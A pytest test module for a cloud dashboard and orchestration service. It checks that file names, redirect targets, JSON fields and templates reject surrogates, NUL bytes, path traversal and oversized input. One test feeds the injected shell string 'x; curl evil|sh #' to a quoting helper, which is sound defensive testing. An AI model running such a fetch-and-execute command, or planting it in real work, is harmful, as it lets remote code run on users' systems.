"""Texts that something else than the reader of bodies decoded: names of files, JSON and dictionaries in fields, and
what becomes a header. Half a surrogate pair and NUL come through none of them."""

from __future__ import annotations

import threading
from typing import Any
from urllib.parse import quote

import pytest
import yaml

from tane.services.dashboard.api import incoming, special
from tane.services.dashboard.domain import forms
from tane.services.orchestration.resources import heat_software
from tane.services.orchestration.template.parsing import parse
from tane.services.orchestration.template.values import TemplateError
from tane.web import codec
from tane.web.errors import BadRequest
from tests.api.dashboard_support import Browser, D, member
from tests.api.orchestration_support import at, hot, path, stack
from tests.support import ApiCloud

NEWEST = {"OpenStack-API-Version": "volume 3.71"}


@pytest.mark.parametrize("name", ["unicode_escape''%5Cud800.txt", "utf-7''%2B2AA-", "utf-8''a%00b"])
def test_a_file_is_named_by_a_text(cloud: ApiCloud, name: str) -> None:
    browser = member(cloud)
    body = f'--x\r\nContent-Disposition: form-data; name="csrf"\r\n\r\n{browser.csrf}\r\n--x\r\n'
    body += 'Content-Disposition: form-data; name="container"\r\n\r\nc\r\n--x\r\n'
    body += f'Content-Disposition: form-data; name="file"; filename*={name}\r\n\r\nEVIL\r\n--x--\r\n'
    headers = {"Content-Type": "multipart/form-data; boundary=x"}
    answer = browser.send("POST", f"{D}/objects", content=body.encode(), headers=headers)
    assert answer.status_code == 400


@pytest.mark.parametrize("where", ["/dashboard/日本", "/dashboardé", "/dashboard/../v1/AUTH_x/c/page.html", D + "/a b"])
def test_nobody_is_led_to_what_is_no_page(cloud: ApiCloud, where: str) -> None:
    cloud.new_user("mia", "garden")
    answer = Browser(cloud).post(f"{D}/prefer", [("language", "en"), ("next", where)])
    assert answer.status_code == 303 and answer.headers["location"] == D


def test_a_long_form_is_decoded_beside_what_others_ask(cloud: ApiCloud, monkeypatch: pytest.MonkeyPatch) -> None:
    browser, seen, decode = member(cloud), [], incoming._texts

    def noted(data: bytes) -> incoming.Form:
        seen.append((len(data) > incoming.QUICK, threading.current_thread()))
        return decode(data)

    monkeypatch.setattr(incoming, "_texts", noted)
    token = browser.csrf
    for size in (10, incoming.QUICK):
        browser.post(f"{D}/new/networks", [("csrf", token), ("name", "x" * size)])
    assert {long for long, _ in seen} == {False, True}
    assert {thread for long, thread in seen if long}.isdisjoint({thread for long, thread in seen if not long})


def test_a_template_is_shown_as_yaml_and_a_large_one_as_it_is(cloud: ApiCloud) -> None:
    assert special._written({"a": ["é"]}) == "a:\n- é\n"
    large = {"a": [[[]]] * special.MOST_YAML}
    text = special._written(large)
    assert text.startswith("{\n") and yaml.load(special._written({"a": 1}), yaml.CSafeLoader) == {"a": 1}


def test_words_of_a_command_are_data() -> None:
    assert forms.quoted("x; curl evil|sh #") == "'x; curl evil|sh #'"
    assert forms.quoted("<a>") == "'<a>'"


@pytest.mark.parametrize("resource", ["volumes", "snapshots"])
@pytest.mark.parametrize("word", [r"\ud800", r"\x00"])
def test_a_filter_of_pairs_holds_texts(cloud: ApiCloud, resource: str, word: str) -> None:
    mia = cloud.new_user("mia", "garden")
    query = quote(f"{{'k': '{word}'}}")
    mia.get(f"/volume/v3/{mia.project_id}/{resource}?metadata={query}", 400, headers=NEWEST)


def test_json_in_a_field_is_read_as_bodies_are() -> None:
    assert codec.parse_inside('{"a": [1]}') == {"a": [1]}
    for text in ('"\\ud800"', "\ud800", '"\\u0000"', "[" * 100 + "]" * 100, "1" * 5000 + "x"):
        with pytest.raises(BadRequest):
            codec.parse_inside(text)


def test_a_function_of_a_template_reads_no_half_character(cloud: ApiCloud) -> None:
    mia = cloud.new_user("mia", "garden")
    one: dict[str, Any] = {"Fn::Select": ["0", '["\\ud800"]']}
    template = {"AWSTemplateFormatVersion": "2010-09-09", "Resources": {}, "Outputs": {"o": {"Value": one}}}
    answer = mia.post(at(mia, "/stacks"), {"stack_name": "s", "template": template})
    cloud.run_jobs()
    if answer.status_code == 201:
        shown = mia.get(at(mia, f"/stacks/s/{answer.json()['stack']['id']}")).json()["stack"]
        assert "surrogate" in str(shown["outputs"])
    else:
        assert answer.status_code == 400


def test_a_number_of_a_template_is_short() -> None:
    text = "heat_template_version: 2021-04-16\nparameters:\n  p:\n    type: number\n    default: " + "1:" * 200 + "1\n"
    with pytest.raises(TemplateError, match="is no int"):
        parse(text)


def test_a_cloud_config_is_as_large_as_user_data_at_most(cloud: ApiCloud, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(heat_software, "MOST_CLOUD_CONFIG", 100)
    mia = cloud.new_user("mia", "garden")
    made = stack(cloud, mia, hot({"c": {"type": "OS::Heat::CloudConfig", "properties": {"cloud_config": {"a": [1]}}}}))
    assert made["stack_status"] == "CREATE_COMPLETE"
    large = {"a": [[[]]] * 40}
    big = hot({"c": {"type": "OS::Heat::CloudConfig", "properties": {"cloud_config": large}}})
    made = stack(cloud, mia, big, "big")
    assert made["stack_status"] == "CREATE_FAILED" and "at most 100 bytes" in made["stack_status_reason"]
    assert path(mia, made)
